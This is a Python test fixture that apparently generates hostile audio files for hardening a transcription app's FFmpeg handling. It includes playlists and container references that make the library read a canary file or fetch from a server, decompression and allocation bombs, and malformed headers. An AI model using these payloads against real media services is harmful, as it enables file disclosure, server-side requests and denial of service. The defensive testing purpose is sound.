"""Recordings that are none: files made to have a media library open, fetch, allocate or compute what it should not.

`hostile_media` gives the names under which they are dropped and their bytes. Those that refer to something name the canary (a file that
nobody may read) and the URL of a server that nobody may reach.
"""

from __future__ import annotations

import random
import struct
from collections.abc import Mapping, Sequence
from fractions import Fraction
from io import BytesIO
from pathlib import Path

import av
import numpy as np
from av.audio.frame import AudioFrame
from av.audio.stream import AudioStream
from av.packet import Packet

from attacks.media_parts import (
    EBML,
    FTYP,
    INFO,
    SEGMENT,
    TRACKS,
    box,
    cluster,
    element,
    flac_of_silence,
    id3,
    matroska,
    matroska_track,
    moov,
    tables_of,
    wav,
)

HOURS = 3600
#: How the names of those begin that are odd but whole: they may be transcribed as well as refused.
HARMLESS = "harmless:"

_RATE = 48_000
_ENDLESS = b"\x01" + b"\xff" * 7  # the length of an EBML element that does not tell it

#: Coded packets, each with its duration in samples.
Packets = Sequence[tuple[bytes, int]]


def hostile_media(canary: Path, url: str) -> Mapping[str, bytes]:
    """Name → content. `url` is the address of a server, without a path."""
    return {**_references(str(canary), url), **_claims(), **_bombs(), **_broken()}


def _references(canary: str, url: str) -> dict[str, bytes]:
    """Files that name others: every kind of list that FFmpeg reads, under the extensions that Trax takes."""
    lists = {
        "m3u": f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{canary}\n#EXTINF:9,\n{url}/a.ts\n#EXT-X-ENDLIST\n",
        "hls-key": f'#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXT-X-KEY:METHOD=AES-128,URI="{url}/key"\n#EXTINF:9,\nfile://{canary}\n#EXT-X-ENDLIST\n',
        "hls-crypto": f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nconcat:{canary}|{url}/b\n#EXT-X-ENDLIST\n",
        "concat": f"ffconcat version 1.0\nfile '{canary}'\nfile '{url}/c.mp3'\n",
        "dash": f'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S"><Period>'
        f'<AdaptationSet mimeType="audio/mp4"><Representation id="0" bandwidth="1"><BaseURL>{url}/d.mp4</BaseURL></Representation>'
        f"</AdaptationSet></Period></MPD>",
        "imf": f'<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016">{url}</CompositionPlaylist>',
        "sdp": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio 9 RTP/AVP 0\n",
        "rtsp": f"rtsp{url.removeprefix('http')}/e\n",
        "pls": f"[playlist]\nFile1={url}/f.mp3\nFile2={canary}\nNumberOfEntries=2\nVersion=2\n",
        "asx": f'<asx version="3.0"><entry><ref href="{url}/g"/></entry></asx>',
        "ffmetadata": f";FFMETADATA1\ntitle={url}\n[STREAM]\nfile={canary}\n",
        "xspf": f'<?xml version="1.0"?><playlist version="1"><trackList><track><location>file://{canary}</location></track></trackList></playlist>',
    }
    found = {f"list {name}{extension}": text.encode() for name, text in lists.items() for extension in (".mp3", ".mp4")}
    found["references.mov"] = _mov_with_references(canary)
    found["linked.mkv"] = _matroska_linked(canary)
    found["url in tags.mp3"] = id3(b"WXXX", b"\0\0" + url.encode()) + id3(b"APIC", b"\0-->\0\3\0" + url.encode())
    return found


def _mov_with_references(canary: str) -> bytes:
    """A QuickTime file whose sound lies in another file, by an alias record that names it (dref of type alis)."""
    name = canary.encode()[:63]
    alias = struct.pack(">IIHH", 0, 0, 150 + len(canary), 2) + struct.pack(">H27p", 0, b"volume") + bytes(10)
    alias += struct.pack(">I63p", 2, name) + bytes(16) + struct.pack(">hh", 1, 1) + bytes(16)
    alias += struct.pack(">HH", 18, len(canary)) + canary.encode() + bytes(len(canary) % 2) + struct.pack(">HH", 0xFFFF, 0)
    dref = box(b"dref", struct.pack(">II", 0, 1), box(b"alis", alias))
    return FTYP + moov(tables_of(160_000, [0], chunk=160_000), length=160_000, dinf=dref)


def _matroska_linked(canary: str) -> bytes:
    """Segments that say which files come before and after."""
    following = element(b"\x3c\xb9\x23", bytes(16)) + element(b"\x3c\x83\xab", canary.encode()) + element(b"\x3e\x83\xbb", canary.encode())
    return matroska(following, matroska_track(b"A_NONE"))


def _claims() -> dict[str, bytes]:
    """Files that claim to be much, and are little."""
    most = 0xFFFF_FFFF
    flac = bytearray(encoded("flac", "flac", np.zeros(_RATE, "<i2")))
    flac[21:26] = bytes((flac[21] | 0xF,)) + b"\xff" * 4  # the total of samples in STREAMINFO
    second, long = bytes(32_000), struct.pack(">d", 3.6e9)
    return {
        "a thousand hours.wav": wav(8000, 1, 8, bytes(100), announced=0x7FFF_EFFF),
        "a thousand hours.mp4": FTYP + box(b"mdat", bytes(64)) + moov(tables_of(most - 1, [28], chunk=most), rate=1000, length=most - 1),
        "a thousand hours in chunks.mp4": FTYP
        + box(b"mdat", bytes(64))
        + moov(tables_of(most - 1, [28] * 20_000, chunk=200_000), rate=1000, length=most - 1),
        "4 billion samples in 64 bytes.mp4": FTYP + box(b"mdat", bytes(64)) + moov(tables_of(most, [28], chunk=most), length=1),
        "a thousand hours.flac": bytes(flac),
        "a thousand hours.mkv": matroska(element(b"\x44\x89", long), matroska_track(), cluster(0, second), cluster(3_600_000_000, second)),
        "eleven hours of a gap.mkv": matroska(b"", matroska_track(), cluster(0, second), cluster(11 * HOURS * 1000, second)),
        "60000 channels.wav": wav(16_000, 60_000, 8, bytes(120_000)),
        "32767 channels of 16 bits.wav": wav(16_000, 32_767, 16, bytes(655_340)),
        "4000 channels.mkv": matroska(b"", matroska_track(channels=4000), cluster(0, bytes(80_000))),
        "one sample a second.wav": wav(1, 1, 8, bytes(40_000)),
        "4 GHz.wav": wav(most, 1, 16, bytes(100_000)),
        "2 GHz.mkv": matroska(b"", matroska_track(rate=2e9), cluster(0, bytes(80_000))),
        "no samples a second.wav": wav(0, 1, 16, bytes(10_000)),
        "no channels.wav": wav(16_000, 0, 16, bytes(10_000)),
        "tags of 256 MB.mp3": id3(b"APIC", b"\0image/png\0\3\0" + bytes(1000), announced=(1 << 28) - 1),
        "huge boxes.mp4": FTYP + struct.pack(">I4sQ", 1, b"moov", 1 << 62) + bytes(64),
        "a table of 4 billion.mp4": FTYP + moov(box(b"stsz", struct.pack(">III", 0, 0, most)) + box(b"stco", struct.pack(">II", 0, most))),
        "elements without end.mkv": EBML + SEGMENT + _ENDLESS + TRACKS + struct.pack(">Q", (1 << 57) - 2) + bytes(64),
        "a huge element.mkv": EBML + SEGMENT + _ENDLESS + INFO + struct.pack(">Q", 1 << 56 | 1 << 40) + bytes(64),
    }


def _bombs() -> dict[str, bytes]:
    """A few hundred kilobytes that yield many hours, or take very long."""
    return {
        "silence bomb.flac": flac_of_silence(11 * HOURS),
        "silence bomb.opus": _opus_of_silence(200_000),
        "the same bytes over and over.mp4": FTYP
        + box(b"mdat", bytes(100_000))
        + moov(tables_of(20_000_000, [24] * 400, chunk=50_000), length=20_000_000),
        "nested boxes.mp4": FTYP + _nested(10_000),
        "nested elements.mkv": EBML + SEGMENT + _ENDLESS + (b"\x11\x4d\x9b\x74" + _ENDLESS) * 20_000,
        f"{HARMLESS} chained streams.ogg": encoded("ogg", "flac", np.zeros(960, "<i2")) * 4000,
        "chained in many rates.ogg": b"".join(encoded("ogg", "flac", np.zeros(960, "<i2"), rate=8000 + 100 * n) for n in range(200)) * 3,
        f"{HARMLESS} many tracks.mkv": matroska(b"", matroska_track() * 20_000, cluster(0, bytes(3200))),
        "many tiny boxes.mp4": FTYP + box(b"free") * 1_000_000,
        "zeros.mp3": b"\xff\xfb\x90\x00" + bytes(8_000_000),
        "sync words.aac": b"\xff\xf1\x50\x80\x00\x1f\xfc" * 1_000_000,
    }


def _nested(depth: int) -> bytes:
    length = 8 * depth
    return b"".join(struct.pack(">I4s", length - 8 * level, b"moov" if level % 2 == 0 else b"trak") for level in range(depth))


def _opus_of_silence(packets: int) -> bytes:
    """Opus packets of two bytes for 120 ms: six frames of nothing each (RFC 6716, 3.2.5)."""
    return encoded("ogg", "libopus", np.zeros(_RATE // 5, "<i2"), instead=[(b"\xfb\x06", 5760)] * packets)


def _broken() -> dict[str, bytes]:
    """Headers that contradict themselves, and whole files with bytes turned."""
    tone = (np.sin(np.arange(_RATE * 2) / 20) * 8000).astype("<i2")
    randomness = random.Random(1)
    found = {
        "only a header.wav": wav(16_000, 1, 16, b"", announced=1 << 20),
        "bits of 999.wav": wav(16_000, 1, 999, bytes(10_000)),
        "no such form.wav": wav(16_000, 1, 16, bytes(10_000), form=0xFFFE),
        "only a header.flac": b"fLaC\x00\0\0\x22" + bytes(34),
        "only a header.ogg": b"OggS" + bytes(100),
        "only a header.mp4": FTYP,
        "only a header.mkv": EBML,
        "moov in moov.mp4": FTYP + moov(moov(b"")),
        "random.mp3": b"ID3" + randomness.randbytes(100_000),
        "random.aac": b"\xff\xf1" + randomness.randbytes(100_000),
        "random.wav": b"RIFF" + randomness.randbytes(100_000),
    }
    coded = (("flac", "flac", "flac"), ("ogg", "libopus", "opus"), ("mp4", "aac", "m4a"), ("matroska", "flac", "mkv"))
    for container, codec, extension in coded:
        data = bytearray(encoded(container, codec, tone))
        for _ in range(len(data) // 8):
            data[randomness.randrange(len(data))] = randomness.randrange(256)
        found[f"turned bytes.{extension}"] = bytes(data)
    return found


def encoded(
    container: str, codec: str, samples: np.ndarray[tuple[int], np.dtype[np.int16]], *, rate: int = _RATE, instead: Packets = ()
) -> bytes:
    """Mono samples in a codec; or, under the same headers, other packets `instead`, each with its duration in samples."""
    target = BytesIO()
    with av.open(target, "w", format=container) as output:
        stream = output.add_stream(codec, rate=rate)
        assert isinstance(stream, AudioStream)
        stream.layout = "mono"
        resampler = av.AudioResampler(stream.format, "mono", rate, frame_size=stream.frame_size or None)
        frame = AudioFrame.from_ndarray(samples.reshape(1, -1), format="s16", layout="mono")
        frame.sample_rate, frame.pts = rate, 0
        packets = [packet for each in (*resampler.resample(frame), *resampler.resample(None)) for packet in stream.encode(each)]
        packets += stream.encode(None)
        at = 0
        for data, duration in instead:
            packet = Packet(data)
            packet.stream, packet.time_base = stream, Fraction(1, rate)
            packet.pts = packet.dts = at
            packet.duration = duration
            at += duration
            output.mux(packet)
        if not instead:
            output.mux(packets)
    return target.getvalue()
